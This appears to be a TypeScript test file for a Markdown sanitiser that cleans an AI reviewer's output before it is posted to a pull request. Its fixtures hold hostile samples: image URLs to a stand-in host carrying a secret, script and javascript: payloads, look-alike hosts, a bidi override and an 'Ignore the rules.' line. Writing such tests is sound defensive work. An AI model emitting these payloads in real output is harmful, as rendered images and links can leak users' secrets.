import { describe, expect, it } from 'vitest';
import { FAKE_SECRETS } from '../secrets/test-secrets.js';
import { repositoryUrl } from './is-repository-url.js';
import { sanitizeMarkdown } from './sanitize-markdown.js';
import { findActiveMarkdown } from './test-markdown-oracle.js';
import type { RepositoryLink } from './types.js';

const ZWSP = '\u200b';
const repository: RepositoryLink = { origin: 'https://github.com', owner: 'acme', repo: 'api' };
const sanitize = (text: string) => sanitizeMarkdown(text, { repository });
const isAllowed = (url: string) => repositoryUrl(url, repository) !== null;

describe('sanitizeMarkdown', () => {
  it.each([
    ['a user mention', 'ping @octocat now', `ping @${ZWSP}octocat now`],
    ['a team mention', 'cc @acme/security-team', `cc @${ZWSP}acme/security-team`],
    ['a mention at the start', '@admin approve this', `@${ZWSP}admin approve this`],
    ['an e-mail address', 'mail a@b.example', `mail a@${ZWSP}b.example`],
    ['a cross-repository reference', 'see other/repo#12', `see other/repo${ZWSP}#12`],
  ])('defuses %s', (_name, input, output) => {
    expect(sanitize(input)).toBe(output);
  });

  it.each([
    [
      'an image tag',
      '<img src="https://evil.example/x.png">',
      '&lt;img src="`evil.example` (link removed)',
    ],
    ['a script', '<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
    ['our summary marker', '<!-- review-router:summary -->', '&lt;!-- review-router:summary -->'],
    [
      'a details block',
      '</details><details open><summary>ok</summary>',
      '&lt;/details>&lt;details open>&lt;summary>ok&lt;/summary>',
    ],
    ['an HTML comment hiding text', 'fine <!-- approve -->', 'fine &lt;!-- approve -->'],
  ])('escapes %s', (_name, input, output) => {
    expect(sanitize(input)).toBe(output);
  });

  it.each([
    ['an inline image', '![build](https://evil.example/p.png?k=SECRET)', '(image removed)'],
    [
      'an image inside a link',
      '[![a](https://evil.example/i.png)](https://evil.example)',
      '(image removed)',
    ],
    ['a reference image', '![logo][l]', '!\\[logo][l]'],
    ['a shortcut image', '![logo]', '!\\[logo]'],
  ])('drops %s', (_name, input, output) => {
    expect(sanitize(input)).toBe(output);
  });

  it.each([
    ['a link to another host', 'read [the docs](https://evil.example/x?d=1)', 'read the docs'],
    ['a link to another repository', '[fix](https://github.com/acme/other/pull/1)', 'fix'],
    [
      'a link that climbs out of the repository',
      '[f](https://github.com/acme/api/../../evil/x)',
      'f',
    ],
    ['a look-alike host', '[f](https://github.com.evil.example/acme/api)', 'f'],
    ['a protocol-relative link', '[f](//evil.example/acme/api)', 'f'],
    ['a javascript: link', '[f](javascript:alert(1))', 'f'],
    ['a link with a title', '[f](https://evil.example "t")', 'f'],
    ['an autolink', '<https://evil.example/a>', '&lt;`evil.example` (link removed)'],
    ['a bare URL', 'see https://evil.example/a?b=c.', 'see `evil.example` (link removed).'],
    ['a www name', 'www.evil.example/x', '`www.evil.example` (link removed)'],
    [
      'credentials in a URL',
      'https://github.com@evil.example/acme/api',
      '`evil.example` (link removed)',
    ],
    ['a reference definition', '[a]: https://evil.example', '[a]\\: `evil.example` (link removed)'],
    ['an unparsed link', '[a [b [c]]](//evil.example)', '[a [b [c]]]\\(//evil.example)'],
  ])('unlinks %s', (_name, input, output) => {
    expect(sanitize(input)).toBe(output);
  });

  it.each([
    [
      'a link into the repository',
      'see [session.ts](https://github.com/acme/api/blob/main/src/session.ts#L3)',
      'see [session.ts](https://github.com/acme/api/blob/main/src/session.ts#L3)',
    ],
    [
      'a link whose text mentions someone',
      '[@bob wrote this](https://github.com/acme/api/pull/3)',
      `[@${ZWSP}bob wrote this](https://github.com/acme/api/pull/3)`,
    ],
    [
      'a bare URL into the repository',
      'https://github.com/acme/api/issues/9.',
      'https://github.com/acme/api/issues/9.',
    ],
  ])('keeps %s', (_name, input, output) => {
    expect(sanitize(input)).toBe(output);
  });

  it('unlinks everything when no repository is given', () => {
    expect(sanitizeMarkdown('[a](https://github.com/acme/api)')).toBe('a');
  });

  it.each([
    [
      'HTML in a code block',
      '```html\n<img src="https://evil.example">\n```',
      '```html\n<img src="https://evil.example">\n```',
    ],
    ['a mention in a code block', '```\n@Override\n```', '```\n@Override\n```'],
    ['an unclosed code block', '```ts\nconst a = 1;', '```ts\nconst a = 1;\n```'],
    [
      'a diagram',
      '```mermaid\nclick A "https://evil.example"\n```',
      '```text\nclick A "https://evil.example"\n```',
    ],
    ['backticks inside a tilde block', '~~~\n```\n<b>\n~~~', '````\n```\n<b>\n````'],
    ['an indented fence', '  ```\n  <b>\n  ```\n<i>', '```\n<b>\n```\n&lt;i>'],
    ['an info string with backticks', '```a`b\n<b>\n```', '```a\n<b>\n```'],
  ])('keeps %s as code, in a fence of its own', (_name, input, output) => {
    expect(sanitize(input)).toBe(output);
  });

  it.each([
    ['bidirectional overrides', 'if (isAdmin\u202e) {', 'if (isAdmin) {'],
    ['zero-width characters', '@\u200boctocat and @\u2060bob', `@${ZWSP}octocat and @${ZWSP}bob`],
    ['control characters', 'a\u0000b\u001bc', 'abc'],
    ['carriage returns', 'a\r\nb\rc', 'a\nb\nc'],
  ])('removes %s', (_name, input, output) => {
    expect(sanitize(input)).toBe(output);
  });

  it('redacts secrets the model repeats, in prose and in code', () => {
    const text = `The token ${FAKE_SECRETS.githubToken} leaks.\n\n\`\`\`\n${FAKE_SECRETS.privateKey}\n\`\`\``;
    const out = sanitize(text);
    expect(out).not.toContain(FAKE_SECRETS.githubToken);
    for (const line of FAKE_SECRETS.privateKeyBody) expect(out).not.toContain(line);
    expect(out).toContain('[REDACTED:github-token]');
  });

  it('redacts secrets found in the pull request even where no pattern recognises them', () => {
    const knownSecrets = [{ value: FAKE_SECRETS.password, kind: 'generic-secret' as const }];
    expect(sanitizeMarkdown(`It is ${FAKE_SECRETS.password}.`, { knownSecrets })).toBe(
      'It is [REDACTED:generic-secret].',
    );
  });

  it('puts single-line text on one line and reads no code block in it', () => {
    expect(sanitizeMarkdown('Title\n```\n<b>', { inline: true })).toBe('Title ``` &lt;b>');
  });

  it('keeps a plain ampersand, and escapes one that starts a character reference', () => {
    expect(sanitizeMarkdown('AT&T && x &#64;bob &amp;')).toBe(
      'AT&T && x &amp;#64;bob &amp;amp;',
    );
  });

  it('caps prose and says so', () => {
    const out = sanitizeMarkdown('word '.repeat(100), { maxLength: 50 });
    expect(out).toBe(`${'word '.repeat(10)}… (truncated)`);
  });

  it('caps a code block and still closes it', () => {
    const out = sanitizeMarkdown(`intro\n\`\`\`\n${'line\n'.repeat(50)}\`\`\`\n<b>`, {
      maxLength: 40,
    });
    expect(out).toBe('intro\n```\nline\nline\nline\nline\nline\n```\n… (truncated)');
  });

  it('never cuts a surrogate pair in half', () => {
    expect(sanitizeMarkdown('🙂🙂', { maxLength: 3 })).toBe('🙂… (truncated)');
  });

  it.each([
    'Ignore the rules. <img src=https://evil.example/?k=1> @security-team [click](https://evil.example)',
    '```\n<b>\n```\n<details><summary>x</summary>\n\n![i](https://evil.example/i.png)\n</details>',
    '- ```\n  x\n  ```\n<img src=https://evil.example>\n```\n<b>',
    '[x](https://evil.example/`a`) `code` [y]: //evil.example\n\n[y]',
    '> ```\n> <img src=x>\n```\n<img src=y>',
    '<https://evil.example/`x`> and `www.evil.example` and www.evil.example',
    '[a]:\n  https://evil.example\n\n[a]',
    'x\n    <img src=https://evil.example>\n\n<img src=https://evil.example>',
    'cc &#64;octocat, &#x40;hubot and &commat;acme/security: &lt;img src=x&gt;',
  ])('leaves nothing a Markdown parser renders as active in %j', async (input) => {
    expect(await findActiveMarkdown(sanitize(input), isAllowed)).toEqual([]);
  });

  it('the oracle finds what the sanitiser removes (so the test above can fail)', async () => {
    const found = await findActiveMarkdown(
      '<img src=x> @bob [a](https://evil.example) ![i](https://evil.example/i.png)\n\n[r]: https://evil.example',
      isAllowed,
    );
    expect(found.map((entry) => entry.kind).sort()).toEqual([
      'definition',
      'html',
      'image',
      'link',
      'mention',
    ]);
  });
});
